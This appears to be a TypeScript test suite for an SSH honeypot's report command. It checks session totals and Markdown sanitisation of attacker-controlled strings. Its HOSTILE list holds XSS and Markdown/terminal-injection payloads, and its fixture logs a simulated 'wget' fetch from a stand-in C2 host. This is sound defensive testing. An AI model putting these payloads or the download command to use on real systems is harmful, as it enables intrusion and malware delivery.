import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import { test, type TestContext } from "node:test";
import { marked } from "marked";
import { codeSpan, markdownTable } from "../../gateway/commands/markdown.ts";
import { reportCommand, type ReportOptions } from "../../gateway/commands/report.ts";
import { rebuildIndex } from "../../gateway/index/rebuild.ts";
import { toByteString } from "../../gateway/model/bytes.ts";
import { dataFolder, Live, putCapture, putLateFacts } from "../archivist/folder.ts";
import { Conversation, SANDBOX } from "../evidence/conversation.ts";
import { NETWORK_FACTS, SUNK } from "../evidence/network-facts.ts";
import { file } from "../index/told.ts";
import { byteString } from "../evidence/indicators/byte-string.ts";
import { Heard } from "./heard.ts";

/** What would be a link, an image, HTML, another cell, another row, or a terminal's command. */
const HOSTILE = [
  "[click](http://evil.example/)",
  "![](http://evil.example/pixel.png)",
  "http://evil.example/ www.evil.example mail@evil.example",
  "<script>alert(1)</script><img src=x onerror=alert(1)>",
  "a | b || c \\| d",
  "` | <b>x</b> | `",
  "``` ```` `",
  "`",
  " lead and trail ",
  "line\n| new | row |\n\n# heading",
  "\x1b[2J\x9b31m\u202e\0",
  "*bold* _em_ ~~x~~ &lt; &#x3c;b&#x3e; \\<b\\>",
  "",
] as const;

/** Run and deleted, each told once. */
const GONE = "c".repeat(64);

async function report(data: string, options: Omit<ReportOptions, "data">): Promise<string> {
  const heard = new Heard();
  assert.equal(await reportCommand({ data, ...options }, heard), 0);
  return heard.out;
}

async function told(t: TestContext): Promise<string> {
  const data = dataFolder(t);
  const write = async (talk: Conversation, reason?: Parameters<Conversation["end"]>[0]) => {
    const live = new Live(data, talk.session);
    live.write(talk.entries);
    return await live.finish(talk.end(reason));
  };
  const long = new Conversation("aaaaaaaaaaaa").hello().password("root", "123456", "refused");
  long.password("root", "hunter2", "accepted").leased();
  long
    .exec(long.after(5000).open(), "uname -a")
    .exec(long.open(), "uname -a")
    .exec(long.open(), "wget http://c2.example.com/a");
  for (const fact of NETWORK_FACTS) long.fact(fact);
  const time = Date.parse("2026-11-23T02:16:00Z") * 1000;
  for (const how of ["run", "deleted"] as const)
    long.fact({
      kind: "file",
      how,
      path: byteString("/tmp/gone"),
      sha256: GONE,
      size: 9,
      uid: 0,
      pid: 7,
      time,
    });
  const folder = await write(long.after(60_000));
  putCapture(data, folder, {
    ...{ sandbox: SANDBOX, sessions: [], source: "192.0.2.7", cut: false },
    ...{ takenAt: "2026-11-23T02:20:00.000000Z", changes: [file("/tmp/x", "new one\n")] },
  });
  putLateFacts(data, folder, [SUNK, SUNK]);
  await write(
    new Conversation("bbbbbbbbbbbb", "2026-11-23T03:00:00.000000Z").hello("SSH-2.0-Go").password("root", "123456", "refused"),
    "too-many-attempts",
  ); // prettier-ignore
  await write(new Conversation("cccccccccccc", "2026-11-20T03:00:00.000000Z").hello().password("old", "old", "refused")); // prettier-ignore
  await rebuildIndex(data);
  return data;
}

test("the figures are those of the sessions in the time that was asked about", async (t) => {
  const data = await told(t);
  const whole = JSON.parse(await report(data, { since: "24h", json: true })) as Record<string, unknown> & {
    totals: Record<string, number>;
  };
  assert.deepEqual(
    { ...whole.totals, received: 0, sent: 0 },
    {
      ...{ sessions: 2, live: 0, sources: 1, attempts: 3, logins: 1, loginSources: 1 },
      ...{ typedByHand: 0, typedByMachine: 0, commands: 3, transfers: 0, forwards: 0 },
      ...{
        networkTries: NETWORK_FACTS.reduce((sum, { count }) => sum + count, 2),
        received: 0,
        sent: 0,
        sandboxes: 1,
        newSandboxes: 1,
      },
    },
  );
  assert.deepEqual(whole["passwords"], [
    { text: "123456", attempts: 2, sources: 1 },
    { text: "hunter2", attempts: 1, sources: 1 },
  ]);
  assert.deepEqual(whole["commands"], [
    { text: "uname -a", sessions: 1, sources: 1 },
    { text: "wget http://c2.example.com/a", sessions: 1, sources: 1 },
  ]);
  const indicators = whole["indicators"] as { kind: string; value: string }[];
  assert.ok(indicators.some(({ kind, value }) => kind === "url" && value === "http://c2.example.com/a"));
  const denied = whole["denied"] as { rule: string; tries: number; port?: number }[];
  assert.deepEqual(
    denied.map(({ rule, tries }) => [rule, tries]),
    [["bot", 14], ["sinkhole", 3], ["cap", 1], ["fence", 1]],
  ); // prettier-ignore
  const artifacts = whole["newArtifacts"] as { path: string; sha256: string }[];
  assert.deepEqual(artifacts.map(({ path }) => path), ["/tmp/gone", "/tmp/x"]); // prettier-ignore
  assert.equal(artifacts[0]?.sha256, GONE);
  assert.deepEqual(whole["ends"], [
    { reason: "client-closed", sessions: 1 },
    { reason: "too-many-attempts", sessions: 1 },
  ]);
  const later = JSON.parse(await report(data, { since: "2026-11-23T02:30", json: true })) as typeof whole;
  assert.equal(later.totals["sessions"], 1);
  assert.deepEqual(later["newArtifacts"], []);
  const all = JSON.parse(await report(data, { since: "7d", top: "1", json: true })) as typeof whole;
  assert.deepEqual([all.totals["sessions"], (all["users"] as unknown[]).length], [3, 1]);
});

test("as Markdown: every list has its table, and an empty time says that nobody came", async (t) => {
  const data = await told(t);
  const text = await report(data, { since: "24h" });
  assert.match(text, /^# Report, 2026-11-22 03:15:37 to 2026-11-23 03:15:37 UTC\n\n2 sessions of 1 source; 3 attempts/); // prettier-ignore
  for (const row of ["| `root` | `123456` | 2 | 1 |", "| `uname -a` | 1 | 1 |", "| `bot` | denied | `tcp` |"])
    assert.ok(text.includes(row), `${row} is missing in\n${text}`);
  assert.match(await report(data, { since: "1m" }), /\n\nNobody came\.\n$/);
  await assert.rejects(report(data, { since: "1h", until: "2h" }), { code: "bad-usage" });
  await assert.rejects(report(data, { top: "0" }), { code: "bad-usage" });
});

/** Rendered as one who reads it has it: GitHub's Markdown, with HTML and bare links. */
function assertHarmless(markdown: string): void {
  const html = marked.parse(markdown, { async: false, gfm: true });
  const tags = new Set(Array.from(html.matchAll(/<\/?([a-z][a-z0-9]*)/gi), ([, name]) => name));
  const known = new Set(["h1", "h2", "p", "table", "thead", "tbody", "tr", "th", "td", "code"]);
  assert.deepEqual([...tags].filter((name) => !known.has(name ?? "")), [], html); // prettier-ignore
  for (const table of html.match(/<table>[^]*?<\/table>/g) ?? []) {
    const columns = table.match(/<th>/g)?.length;
    for (const row of table.match(/<tr>[^]*?<\/tr>/g)?.slice(1) ?? [])
      assert.equal(row.match(/<td>/g)?.length, columns, row);
  }
  // eslint-disable-next-line no-control-regex
  assert.doesNotMatch(markdown, /[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]/);
}

test("nothing of a stranger's is a link, an image, HTML, a cell, a row or a terminal's command", async (t) => {
  const data = dataFolder(t);
  const talk = new Conversation("dddddddddddd").hello(`SSH-2.0-${HOSTILE.join("")}`);
  for (const text of HOSTILE) talk.password(utf8(text), utf8(text), "refused");
  talk.password(utf8(HOSTILE[0]), utf8(HOSTILE[4]), "accepted").leased();
  for (const text of HOSTILE) talk.exec(talk.open(), text);
  for (const text of HOSTILE) talk.fact({ ...SUNK, name: toByteString(Buffer.from(text)) });
  const live = new Live(data, talk.session);
  live.write(talk.entries);
  const folder = await live.finish(talk.end());
  putCapture(data, folder, {
    ...{ sandbox: SANDBOX, sessions: [], source: "192.0.2.7", cut: false },
    ...{ takenAt: "2026-11-23T02:20:00.000000Z" },
    changes: HOSTILE.map((text, place) => file(`/tmp/${text}`, `content ${place}`)),
  });
  await rebuildIndex(data);
  const text = await report(data, { since: "24h", top: "100" });
  assert.ok(text.includes("evil.example"), "it is told");
  assertHarmless(text);
  JSON.parse(await report(data, { since: "24h", json: true }));
});

test("whatever bytes a cell holds, the table stays one", () => {
  const cells = Array.from({ length: 400 }, (_, place) => {
    const bytes = randomBytes(1 + (place % 60)).map((byte) => MARKS.charCodeAt(byte % MARKS.length));
    return [codeSpan(toByteString(bytes)), codeSpan(toByteString(randomBytes(20)))];
  });
  const markdown = markdownTable(["one", "other"], cells);
  assertHarmless(markdown);
  const html = marked.parse(markdown, { async: false, gfm: true });
  assert.equal(html.match(/<tr>/g)?.length, 401);
});

/** What Markdown has a meaning for, and a little else. */
const MARKS = "`|\\<>[]()!*_~&#-= \n\tab:/@.";

function utf8(text: string): string {
  return Buffer.from(text, "utf8").toString("latin1");
}
